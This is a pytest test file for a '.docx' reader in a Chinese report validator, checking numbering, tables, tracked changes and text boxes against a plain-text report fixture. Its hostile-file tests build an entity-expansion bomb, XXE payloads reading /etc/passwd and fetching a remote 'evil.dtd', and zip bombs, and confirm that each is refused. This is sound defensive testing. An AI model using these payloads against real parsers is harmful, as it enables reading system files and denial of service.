"""The ``.docx`` reader: numbered reports read like their ``.txt``, and hostile files are refused.

Every ``.docx`` here is built in the test with python-docx, the numbering
definitions written into its numbering part as Word writes them (python-docx
has no numbering API); no binary fixture is committed.
"""

from __future__ import annotations

import io
import json
import sys
import tracemalloc
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

docx = pytest.importorskip("docx")

from docx.oxml import parse_xml  # noqa: E402
from docx.oxml.ns import qn  # noqa: E402

from validator.api import Validator  # noqa: E402
from validator.cli import main  # noqa: E402
from validator.errors import InputError  # noqa: E402
from validator.readers import read_bytes, read_path  # noqa: E402
from validator.readers.docx import MAX_UNCOMPRESSED, docx_paragraphs, read_docx  # noqa: E402

W_URI = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
W = f'xmlns:w="{W_URI}"'
MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'

# ------------------------------------------------------------------ building .docx files


def level_xml(
    ilvl: int,
    fmt: str,
    text: str,
    *,
    start: int = 1,
    restart: int | None = None,
    style: str | None = None,
    legal: bool = False,
) -> str:
    """A ``w:lvl`` as Word writes it."""
    extra = f'<w:lvlRestart w:val="{restart}"/>' if restart is not None else ""
    extra += f'<w:pStyle w:val="{style}"/>' if style else ""
    extra += "<w:isLgl/>" if legal else ""
    return (
        f'<w:lvl w:ilvl="{ilvl}"><w:start w:val="{start}"/><w:numFmt w:val="{fmt}"/>{extra}'
        f'<w:lvlText w:val="{text}"/><w:lvlJc w:val="left"/></w:lvl>'
    )


# GB/T 9704 levels as an office's multilevel list defines them.
GB_LEVELS = (
    level_xml(0, "chineseCounting", "%1、"),
    level_xml(1, "chineseCounting", "（%2）"),
    level_xml(2, "decimal", "%3."),
    level_xml(3, "decimal", "（%4）"),
)


def abstract_xml(abstract_id: int, levels: Sequence[str], link: str | None = None) -> str:
    body = f'<w:numStyleLink w:val="{link}"/>' if link else "".join(levels)
    return (
        f'<w:abstractNum {W} w:abstractNumId="{abstract_id}">'
        f'<w:multiLevelType w:val="multilevel"/>{body}</w:abstractNum>'
    )


def num_xml(num_id: int, abstract_id: int, start_overrides: dict[int, int] | None = None) -> str:
    overrides = "".join(
        f'<w:lvlOverride w:ilvl="{ilvl}"><w:startOverride w:val="{start}"/></w:lvlOverride>'
        for ilvl, start in (start_overrides or {}).items()
    )
    return f'<w:num {W} w:numId="{num_id}"><w:abstractNumId w:val="{abstract_id}"/>{overrides}</w:num>'


@dataclass(frozen=True)
class Para:
    """A paragraph to write: its text, and the list and level that number it (if any)."""

    text: str
    num: int | None = None
    ilvl: int | None = None
    style: str | None = None


def build_docx(
    paragraphs: Sequence[Para] = (),
    *,
    abstracts: Sequence[str] = (),
    nums: Sequence[str] = (),
    styles: Sequence[str] = (),
    body_xml: str = "",
    edit: Callable[[Any], None] | None = None,
) -> bytes:
    """A real .docx: python-docx's template, our numbering definitions, styles and paragraphs.

    ``body_xml`` (WordprocessingML with the ``w:`` prefix) is appended to the
    body after ``paragraphs``, for what python-docx cannot write (tracked
    changes, text boxes); ``edit`` may change the python-docx document last.
    """
    document = docx.Document()
    numbering = document.part.numbering_part.element
    first_num = numbering.find(qn("w:num"))
    for xml in abstracts:
        if first_num is not None:
            first_num.addprevious(parse_xml(xml))
        else:
            numbering.append(parse_xml(xml))
    for xml in nums:
        numbering.append(parse_xml(xml))
    for xml in styles:
        document.styles.element.append(parse_xml(xml))
    for para in paragraphs:
        paragraph = document.add_paragraph(para.text, style=para.style)
        if para.num is not None or para.ilvl is not None:
            properties = paragraph._p.get_or_add_pPr()
            num_pr = parse_xml(
                f"<w:numPr {W}>"
                + (f'<w:ilvl w:val="{para.ilvl}"/>' if para.ilvl is not None else "")
                + (f'<w:numId w:val="{para.num}"/>' if para.num is not None else "")
                + "</w:numPr>"
            )
            properties.append(num_pr)
    if body_xml:
        body = document.element.body
        section = body.find(qn("w:sectPr"))
        for element in parse_xml(f"<w:body {W} {MC}>{body_xml}</w:body>"):
            section.addprevious(element)
    if edit is not None:
        edit(document)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def replace_part(data: bytes, name: str, content: bytes) -> bytes:
    """The same .docx with part ``name`` replaced (or added)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info, source.read(info))
        target.writestr(name, content)
    return buffer.getvalue()


def lines(data: bytes) -> list[str]:
    return read_docx(data, "x.docx").text.split("\n")


# ------------------------------------------------------------------ the numbered report

# (level, marker as typed in the .txt, text): level 0 = not numbered. The .docx numbers levels 1–3
# with one multilevel list, so its paragraphs hold the text only.
REPORT = (
    (0, "", "中共青山县统计局党组关于2024年度落实全面从严治党主体责任情况的报告"),
    (
        0,
        "",
        "2024年，局党组坚持以习近平新时代中国特色社会主义思想为指导，深入贯彻党的二十大和二十届三中全会精神，"
        "扎实开展党纪学习教育，现将有关情况报告如下。",
    ),
    (1, "一、", "坚持把党的政治建设摆在首位"),
    (
        2,
        "（一）",
        "坚定拥护“两个确立”。党组坚决做到“两个维护”，严格执行重大事项请示报告制度，全年请示报告12次。",
    ),
    (2, "（二）", "严肃党内政治生活。认真开展民主生活会，班子成员开展谈心谈话36人次。"),
    (1, "二、", "强化理论武装"),
    (2, "（一）", "落实“第一议题”制度"),
    (3, "1.", "抓好中心组学习。理论学习中心组集中学习12次，开展专题研讨4次。"),
    (3, "2.", "落实意识形态工作责任制。每半年研判一次意识形态形势,及时处置苗头性问题。"),
    (2, "（二）", "加强党员教育"),
    (3, "1.", "深入学习习总书记重要讲话精神。组织专题学习6次。"),
    (3, "2.", "开展党纪学习教育。举办读书班1期，覆盖党员85名。"),
    (1, "三、", "夯实组织基础"),
    (2, "（一）", "规范党支部建设。严格落实“三会一课”制度，4个党支部全部完成换届。"),
    (2, "（二）", "加强干部队伍建设。选拔任用科级干部4名，交流轮岗干部6名。"),
    (1, "四、", "驰而不息改进作风"),
    (2, "（一）", "落实中央八项规定精神。持续纠治“四风”，精简会议文件三成。"),
    (2, "（二）", "整治形式主义、官僚主义。减少督查检查考核事项。"),
    (1, "五、", "严明纪律规矩"),
    (2, "（一）", "开展警示教育。召开警示教育大会2次，用身边案以案促改。"),
    (
        2,
        "（二）",
        "压实主体责任。党组书记履行第一责任人责任，班子成员落实“一岗双责”，召开专题会议研究全面从严治党工作4次。",
    ),
    (1, "六、", "存在的问题"),
    (0, "", "一是理论学习不够深入，有的支部学习方式单一，2个支部全年仅开展专题研讨1次。"),
    (0, "", "二是日常监督还有薄弱环节，个别干部廉洁风险意识不强，对外勤期间的监督检查频次偏少。"),
    (1, "七、", "下一步工作打算"),
    (0, "", "一是强化理论武装，每季度开展一次专题研讨。"),
    (0, "", "二是加强日常监督，建立外勤人员廉政提醒制度。"),
    (0, "", "中共青山县统计局党组"),
    (0, "", "2025年1月20日"),
)
REPORT_TXT = "\n".join(marker + text for _, marker, text in REPORT)


def numbered_report() -> bytes:
    return build_docx(
        [Para(text, num=7, ilvl=level - 1) if level else Para(text) for level, _, text in REPORT],
        abstracts=[abstract_xml(70, GB_LEVELS)],
        nums=[num_xml(7, 70)],
    )


def _results(validator: Validator, path: Path) -> list[tuple[object, ...]]:
    """Every result but the layout rules' (FMT-): they judge the page, which a .txt does not have."""
    file_result = validator.check_path(path)
    assert file_result.error is None
    return [
        (report.title, report.checklist, r.kind, r.id, r.status, r.severity, r.message, r.span)
        for report in file_result.reports
        for r in report.results
        if not r.id.startswith("FMT-")
    ]


def test_automatic_numbering_reads_as_the_typed_markers() -> None:
    assert read_docx(numbered_report(), "x.docx").text == REPORT_TXT


def test_check_gives_the_docx_the_verdicts_of_its_text(tmp_path: Path) -> None:
    (tmp_path / "report.txt").write_text(REPORT_TXT, encoding="utf-8")
    (tmp_path / "report.docx").write_bytes(numbered_report())
    validator = Validator()
    from_text = _results(validator, tmp_path / "report.txt")
    from_docx = _results(validator, tmp_path / "report.docx")
    assert from_docx == from_text
    failed = {(kind, ident) for _, _, kind, ident, status, *_ in from_text if status == "fail"}
    assert {("rule", "PUN-001"), ("rule", "TERM-009")} <= failed  # the fixture does exercise the rules


def test_outline_of_the_docx_is_the_outline_of_its_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "report.txt").write_text(REPORT_TXT, encoding="utf-8")
    (tmp_path / "report.docx").write_bytes(numbered_report())
    outlines = []
    for name in ("report.txt", "report.docx"):
        assert main(["outline", str(tmp_path / name), "--format", "json"]) == 0
        payload = json.loads(capsys.readouterr().out)
        payload.pop("path")
        outlines.append(payload)
    assert outlines[0] == outlines[1]
    top = outlines[0]["reports"][0]["headings"]
    assert [h["marker"] for h in top] == ["一、", "二、", "三、", "四、", "五、", "六、", "七、"]
    assert [c["marker"] for c in top[1]["children"][1]["children"]] == ["1.", "2."]


def test_line_n_is_the_nth_paragraph_empty_ones_included() -> None:
    data = build_docx([Para("第一段"), Para(""), Para("第三段")])
    assert lines(data) == ["第一段", "", "第三段"]
    assert read_docx(data, "x.docx").format == "docx"


def test_docx_is_dispatched_by_suffix_and_named_in_errors(tmp_path: Path) -> None:
    target = tmp_path / "报告.DOCX"
    target.write_bytes(build_docx([Para("正文")]))
    assert read_path(target).text == "正文"
    assert read_bytes(build_docx([Para("正文")]), "<stdin>", "docx").text == "正文"
    with pytest.raises(InputError) as info:
        read_bytes(b"not a zip", "<stdin>", ".docx")
    assert str(info.value).startswith("<stdin>: ")


# ------------------------------------------------------------------ numbering from styles


HEADING_LIST = (
    level_xml(0, "chineseCounting", "%1、", style="Heading1"),
    level_xml(1, "chineseCounting", "（%2）", style="Heading2"),
    level_xml(2, "decimal", "%3.", style="Heading3"),
)


def _linked_heading_styles() -> bytes:
    """Heading 1–3 linked to a list in styles.xml, as Word's "define new multilevel list" does."""
    restyle = (
        f'<w:style {W} w:type="paragraph" w:styleId="Heading1"><w:name w:val="heading 1"/>'
        '<w:pPr><w:numPr><w:numId w:val="5"/></w:numPr><w:outlineLvl w:val="0"/></w:pPr></w:style>',
        f'<w:style {W} w:type="paragraph" w:styleId="Heading2"><w:name w:val="heading 2"/>'
        '<w:basedOn w:val="Heading1"/><w:pPr><w:numPr><w:ilvl w:val="1"/></w:numPr>'
        '<w:outlineLvl w:val="1"/></w:pPr></w:style>',
        f'<w:style {W} w:type="paragraph" w:styleId="Heading3"><w:name w:val="heading 3"/>'
        '<w:basedOn w:val="Heading2"/><w:pPr><w:outlineLvl w:val="2"/></w:pPr></w:style>',
        # A house style for level 2 that inherits everything from 标题 2.
        f'<w:style {W} w:type="paragraph" w:styleId="HouseLevel2"><w:name w:val="二级标题"/>'
        '<w:basedOn w:val="Heading2"/></w:style>',
    )

    def replace_headings(document: Any) -> None:
        styles = document.styles.element
        for old in styles.findall(qn("w:style")):
            if old.get(qn("w:styleId")) in ("Heading1", "Heading2", "Heading3"):
                styles.remove(old)
        for xml in restyle:
            styles.append(parse_xml(xml))

    def style_paragraphs(document: Any) -> None:
        replace_headings(document)
        body = document.element.body
        wanted = ["Heading1", "Heading2", "HouseLevel2", "Heading3", "Heading3", "Heading1", None, "Heading2"]
        for paragraph, style in zip(body.findall(qn("w:p")), wanted, strict=True):
            if style:
                paragraph.get_or_add_pPr().append(parse_xml(f'<w:pStyle {W} w:val="{style}"/>'))

    texts = [
        "加强政治建设",
        "坚定拥护",
        "严肃政治生活",
        "学习",
        "研讨",
        "强化理论武装",
        "正文段落",
        "落实制度",
    ]
    return build_docx(
        [Para(text) for text in texts],
        abstracts=[abstract_xml(50, HEADING_LIST)],
        nums=[num_xml(5, 50)],
        edit=style_paragraphs,
    )


def test_numbering_inherited_from_heading_styles_and_their_based_on_chain() -> None:
    paragraphs = docx_paragraphs(_linked_heading_styles(), "x.docx")
    assert [p.text for p in paragraphs] == [
        "一、加强政治建设",
        "（一）坚定拥护",
        "（二）严肃政治生活",
        "1.学习",
        "2.研讨",
        "二、强化理论武装",
        "正文段落",
        "（一）落实制度",
    ]
    assert [p.heading_level for p in paragraphs] == [1, 2, 2, 3, 3, 1, None, 2]
    assert [p.marker for p in paragraphs][:3] == ["一、", "（一）", "（二）"]
    assert paragraphs[2].style == "二级标题"


def test_heading_style_without_numbering_keeps_its_text_and_its_level() -> None:
    data = build_docx([Para("加强政治建设", style="Heading 1"), Para("正文。")])
    paragraphs = docx_paragraphs(data, "x.docx")
    assert [(p.text, p.heading_level, p.marker) for p in paragraphs] == [
        ("加强政治建设", 1, ""),
        ("正文。", None, ""),
    ]


def test_numbering_switched_off_on_the_paragraph_wins_over_the_style() -> None:
    def switch_off_second(document: Any) -> None:
        body = document.element.body
        second = body.findall(qn("w:p"))[1]
        second.get_or_add_pPr().append(parse_xml(f'<w:numPr {W}><w:numId w:val="0"/></w:numPr>'))

    style = (
        f'<w:style {W} w:type="paragraph" w:styleId="Numbered"><w:name w:val="Numbered"/>'
        '<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="8"/></w:numPr></w:pPr></w:style>'
    )
    data = build_docx(
        [Para("甲", style="Numbered"), Para("乙", style="Numbered"), Para("丙", style="Numbered")],
        abstracts=[abstract_xml(80, GB_LEVELS)],
        nums=[num_xml(8, 80)],
        styles=[style],
        edit=switch_off_second,
    )
    assert lines(data) == ["一、甲", "乙", "二、丙"]


# ------------------------------------------------------------------ what a reader reads


def test_table_cells_are_lines_in_reading_order() -> None:
    def add_table(document: Any) -> None:
        table = document.add_table(rows=2, cols=2)
        table.cell(0, 0).text = "项目"
        table.cell(0, 1).text = "次数"
        table.cell(1, 0).text = "专题研讨"
        cell = table.cell(1, 1)
        cell.text = "4"
        cell.add_paragraph("（含线上1次）")
        document.add_paragraph("表后正文。")

    data = build_docx([Para("表前正文。")], edit=add_table)
    assert lines(data) == ["表前正文。", "项目", "次数", "专题研讨", "4", "（含线上1次）", "表后正文。"]
    assert [p.in_table for p in docx_paragraphs(data, "x.docx")] == [
        False,
        True,
        True,
        True,
        True,
        True,
        False,
    ]


TRACKED = """
<w:p><w:r><w:t>全年召开</w:t></w:r>
  <w:del w:id="1" w:author="审核人"><w:r><w:delText>党组会议10次</w:delText></w:r></w:del>
  <w:ins w:id="2" w:author="审核人"><w:r><w:t>党组会议12次</w:t></w:r></w:ins>
  <w:r><w:t>。</w:t></w:r></w:p>
<w:p><w:pPr><w:rPr><w:del w:id="3" w:author="审核人"/></w:rPr></w:pPr>
  <w:del w:id="4" w:author="审核人"><w:r><w:delText>这一整段已被删除。</w:delText></w:r></w:del></w:p>
<w:p><w:r><w:t>上半段</w:t></w:r><w:pPr><w:rPr><w:del w:id="5" w:author="审核人"/></w:rPr></w:pPr></w:p>
<w:p><w:r><w:t>与下半段合为一段。</w:t></w:r></w:p>
<w:p><w:moveFrom w:id="6" w:author="审核人"><w:r><w:t>移走的话</w:t></w:r></w:moveFrom>
  <w:r><w:t>留下的话</w:t></w:r>
  <w:moveTo w:id="7" w:author="审核人"><w:r><w:t>移来的话</w:t></w:r></w:moveTo></w:p>
"""


def test_tracked_changes_read_as_accepted() -> None:
    data = build_docx(body_xml=TRACKED)
    assert lines(data) == ["全年召开党组会议12次。", "上半段与下半段合为一段。", "留下的话移来的话"]


def test_a_deleted_paragraph_does_not_advance_the_numbering() -> None:
    body = """
<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="7"/></w:numPr></w:pPr><w:r><w:t>甲</w:t></w:r></w:p>
<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="7"/></w:numPr>
  <w:rPr><w:del w:id="1" w:author="a"/></w:rPr></w:pPr>
  <w:del w:id="2" w:author="a"><w:r><w:delText>乙</w:delText></w:r></w:del></w:p>
<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="7"/></w:numPr></w:pPr><w:r><w:t>丙</w:t></w:r></w:p>
"""
    data = build_docx(abstracts=[abstract_xml(70, GB_LEVELS)], nums=[num_xml(7, 70)], body_xml=body)
    assert lines(data) == ["一、甲", "二、丙"]


def test_comments_are_not_text() -> None:
    def comment(document: Any) -> None:
        paragraph = document.paragraphs[0]
        document.add_comment(paragraph.runs, text="此处数字请核实", author="审核人")

    data = build_docx([Para("全年召开党组会议12次。"), Para("下一段。")], edit=comment)
    assert "commentReference" in zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode()
    assert lines(data) == ["全年召开党组会议12次。", "下一段。"]


def test_soft_breaks_join_with_nothing_and_tabs_become_a_space() -> None:
    body = """
<w:p><w:r><w:t>加强党的</w:t><w:br/><w:t>政治建设</w:t><w:tab/><w:t>全年</w:t></w:r></w:p>
<w:p><w:r><w:t>可见</w:t></w:r><w:r><w:rPr><w:vanish/></w:rPr><w:t>隐藏文字</w:t></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>
  <w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>3</w:t></w:r>
  <w:r><w:fldChar w:fldCharType="end"/></w:r>
  <w:hyperlink><w:r><w:t>链接文字</w:t></w:r></w:hyperlink><w:bookmarkStart w:id="0" w:name="a"/></w:p>
"""
    assert lines(build_docx(body_xml=body)) == ["加强党的政治建设 全年", "可见", "3链接文字"]


def test_a_text_box_is_read_once_after_its_anchor() -> None:
    box = "<w:txbxContent><w:p><w:r><w:t>框内文字</w:t></w:r></w:p></w:txbxContent>"
    body = f"""
<w:p><w:r><w:t>锚定段落</w:t></w:r><w:r><mc:AlternateContent>
  <mc:Choice Requires="wps"><w:drawing><wp:anchor xmlns:wp="urn:wp"><a:graphic xmlns:a="urn:a">
    <wps:txbx xmlns:wps="urn:wps">{box}</wps:txbx></a:graphic></wp:anchor></w:drawing></mc:Choice>
  <mc:Fallback><w:pict><v:textbox xmlns:v="urn:v">{box}</v:textbox></w:pict></mc:Fallback>
</mc:AlternateContent></w:r></w:p>
<w:p><w:r><w:t>下一段</w:t></w:r></w:p>
"""
    assert lines(build_docx(body_xml=body)) == ["锚定段落", "框内文字", "下一段"]


# ------------------------------------------------------------------ hostile and broken files


def _reason(data: bytes, name: str = "x.docx") -> str:
    with pytest.raises(InputError) as info:
        read_bytes(data, name)
    assert str(info.value).startswith(f"{name}: ")
    return info.value.reason


def test_not_a_zip_truncated_and_ole_files_are_input_errors() -> None:
    data = build_docx([Para("正文")])
    assert "不是 ZIP" in _reason("这不是 Word 文件".encode())
    assert "损坏" in _reason(data[: len(data) // 2])
    assert "另存为 .docx" in _reason(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))


def test_a_broken_install_without_lxml_is_an_input_error(monkeypatch: pytest.MonkeyPatch) -> None:
    data = build_docx([Para("正文")])
    monkeypatch.setitem(sys.modules, "lxml.etree", None)
    assert "lxml" in _reason(data)


def test_a_zip_without_a_word_document_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    assert "不是 Word 文档" in _reason(buffer.getvalue())
    not_wordml = replace_part(build_docx([Para("正文")]), "word/document.xml", b"<workbook/>")
    assert "不是 Word 文档" in _reason(not_wordml)


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10 if n > 1 else "&lol;" * 10}">'
        for n in range(1, 10)
    )
    + f"]><w:document {W}><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
)
XXE = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
    '<!ENTITY net SYSTEM "http://192.0.2.1/evil.dtd">]>'
    f"<w:document {W}><w:body><w:p><w:r><w:t>&xxe;&net;</w:t></w:r></w:p></w:body></w:document>"
)


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("word/document.xml", BILLION_LAUGHS.encode()),
        ("word/document.xml", XXE.encode()),
        ("word/document.xml", XXE.encode("utf-16")),
        ("word/document.xml", XXE.replace('"1.0"?>', '"1.0" encoding="UTF-32"?>').encode("utf-32")),
        ("word/styles.xml", XXE.replace("w:document", "w:styles").encode()),
        ("word/numbering.xml", BILLION_LAUGHS.replace("w:document", "w:numbering").encode()),
        ("_rels/.rels", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x "y">]><Relationships/>'),
    ],
)
def test_xml_with_a_doctype_is_refused_without_resolving_anything(
    part: str, content: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("the reader opened a network connection")

    monkeypatch.setattr("socket.socket.connect", no_network)
    data = replace_part(numbered_report(), part, content)
    tracemalloc.start()
    try:
        reason = _reason(data)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "DOCTYPE" in reason
    assert peak < 20 * 1024 * 1024


def _bomb(size: int) -> bytes:
    """A .docx whose document.xml inflates to ``size`` bytes of spaces (streamed: never held whole)."""
    buffer = io.BytesIO()
    template = zipfile.ZipFile(io.BytesIO(build_docx([Para("正文")])))
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for info in template.infolist():
            if info.filename != "word/document.xml":
                archive.writestr(info.filename, template.read(info))
        with archive.open("word/document.xml", "w") as member:
            member.write(f"<w:document {W}><w:body>".encode())
            chunk = b" " * (1024 * 1024)
            for _ in range(size // len(chunk)):
                member.write(chunk)
            member.write(b"</w:body></w:document>")
    return buffer.getvalue()


def _lie_about_size(data: bytes, name: str, declared: int) -> bytes:
    """Rewrite the size a member declares (local header and central directory), not its data."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    patched = bytearray(data)
    local = archive.getinfo(name).header_offset
    patched[local + 22 : local + 26] = declared.to_bytes(4, "little")
    entry = archive.start_dir
    while data[entry : entry + 4] == b"PK\x01\x02":
        name_length, extra_length, comment_length = (
            int.from_bytes(data[entry + offset : entry + offset + 2], "little") for offset in (28, 30, 32)
        )
        if data[entry + 46 : entry + 46 + name_length] == name.encode():
            patched[entry + 24 : entry + 28] = declared.to_bytes(4, "little")
        entry += 46 + name_length + extra_length + comment_length
    return bytes(patched)


def test_a_zip_bomb_is_refused_before_it_is_inflated() -> None:
    bomb = _bomb(300 * 1024 * 1024)
    assert len(bomb) < 2 * 1024 * 1024
    tracemalloc.start()
    try:
        reason = _reason(bomb)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "压缩炸弹" in reason
    assert peak < 20 * 1024 * 1024


def test_a_part_under_the_budget_but_with_a_bomb_ratio_is_refused() -> None:
    assert "压缩炸弹" in _reason(_bomb(8 * 1024 * 1024))


def test_a_part_that_lies_about_its_size_inflates_no_further_than_it_declared() -> None:
    liar = _lie_about_size(_bomb(64 * 1024 * 1024), "word/document.xml", 1000)
    tracemalloc.start()
    try:
        reason = _reason(liar)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "损坏" in reason or "XML" in reason
    assert peak < 20 * 1024 * 1024
    assert MAX_UNCOMPRESSED == 50 * 1024 * 1024


@pytest.mark.usefixtures("without_libreoffice")
def test_cli_reports_each_broken_file_in_one_line_and_checks_the_others(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    good_docx = tmp_path / "a-good.docx"
    good_docx.write_bytes(numbered_report())
    good_txt = tmp_path / "b-good.txt"
    good_txt.write_text(REPORT_TXT, encoding="utf-8")
    truncated = tmp_path / "c-truncated.docx"
    truncated.write_bytes(numbered_report()[:3000])
    not_zip = tmp_path / "d-not-zip.docx"
    not_zip.write_text("纯文本，却起名为 .docx", encoding="utf-8")
    old = tmp_path / "e-old.doc"
    old.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000))
    paths = [str(p) for p in (good_docx, good_txt, truncated, not_zip, old)]

    code = main(["check", *paths, "--format", "json"])
    captured = capsys.readouterr()
    assert code == 2
    errors = captured.err.strip().split("\n")
    assert len(errors) == 3
    for line, path in zip(errors, paths[2:], strict=True):
        assert line.startswith(f"report-validator: 错误：{path}: ")
    assert "libreoffice --headless --convert-to docx" in errors[2]
    payload = json.loads(captured.out)
    assert [bool(f["error"]) for f in payload["files"]] == [False, False, True, True, True]
    docx_reports, text_reports = payload["files"][0]["reports"], payload["files"][1]["reports"]
    assert [_without_layout(r) for r in docx_reports] == [_without_layout(r) for r in text_reports]
    assert "Traceback" not in captured.err


def _without_layout(report: dict[str, Any]) -> dict[str, Any]:
    """A JSON report without the layout rules' results (python-docx's default page is not GB/T 9704's)."""
    kept = {key: value for key, value in report.items() if key not in ("results", "summary")}
    kept["results"] = [r for r in report["results"] if not r["id"].startswith("FMT-")]
    return kept
